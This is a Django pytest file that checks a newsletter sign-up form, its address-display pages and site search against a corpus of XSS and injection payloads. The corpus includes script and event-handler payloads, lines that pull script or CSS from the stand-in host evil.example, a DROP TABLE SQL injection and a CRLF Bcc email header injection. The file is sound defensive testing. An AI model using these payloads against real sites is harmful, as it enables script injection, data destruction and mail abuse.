"""XSS and injection corpus through the newsletter sign-up (email, ZIP), the pages
that show a stored address, and search (q): always plain text, always escaped."""

from __future__ import annotations

import pytest
from django.core.cache import cache
from django.utils.html import escape

from pathways.newsletter import tokens
from pathways.newsletter.models import Subscriber
from tests.factories import SubscriberFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x</button></form>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7*7 }}<script>alert(1)</script>",
    "{% debug %}<b>x</b>",
    "${7*7}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(1)</sCrIpT>",
    '<img src="x" onerror="alert(\'x\')">',
    '<div style="background:url(javascript:alert(1))">',
    "<mark>fake highlight</mark>",
    "\ue000<b>forged</b>\ue001",
    "'; DROP TABLE newsletter_subscriber; --",
    '" OR 1=1 --',
    "x@example.org<script>alert(1)</script>",
    "<script>alert(1)</script>@example.org",
    '"<script>"@example.org',
    "a@b.c\r\nBcc: victim@example.org",
    "NEAR(<script> alert)",
    "*<svg onload=alert(1)>*",
]

# Tags no page of ours contains: if one appears, a payload got through.
DANGEROUS = ("<script", "<img", "<svg", "<iframe", "<body on", "<video", "<object")


def _assert_safe(html: str, payload: str) -> None:
    lowered = html.lower()
    for bad in DANGEROUS:
        if bad in payload.lower():
            assert bad not in lowered, (payload, bad)
    if "<" in payload:
        assert payload not in html, payload


def test_corpus_is_big_enough():
    assert len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_signup_email_and_zip_are_echoed_escaped(client, payload):
    cache.clear()
    resp = client.post("/updates/", {"email": payload, "zip": payload})
    assert resp.status_code in (302, 400)
    if resp.status_code == 400:
        html = resp.content.decode()
        _assert_safe(html, payload)
        assert 'aria-invalid="true"' in html
    assert not Subscriber.objects.exclude(email__contains="@").exists()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_stored_address_is_rendered_escaped(client, payload):
    # The form never accepts these; store one directly (as an import might) and
    # check every page that shows an address.
    sub = SubscriberFactory(email=payload[:254])
    for url in (
        f"/updates/confirm/{tokens.make_confirm_token(sub)}/",
        f"/updates/unsubscribe/{tokens.make_unsubscribe_token(sub)}/",
    ):
        resp = client.get(url)
        assert resp.status_code == 200
        html = resp.content.decode()
        _assert_safe(html, payload)
        assert escape(payload[:254]) in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_search_query_is_echoed_escaped(client, payload):
    resp = client.get("/search/", {"q": payload})
    assert resp.status_code == 200
    html = resp.content.decode()
    _assert_safe(html, payload)
    if payload.strip():
        assert escape(payload.strip()) in html
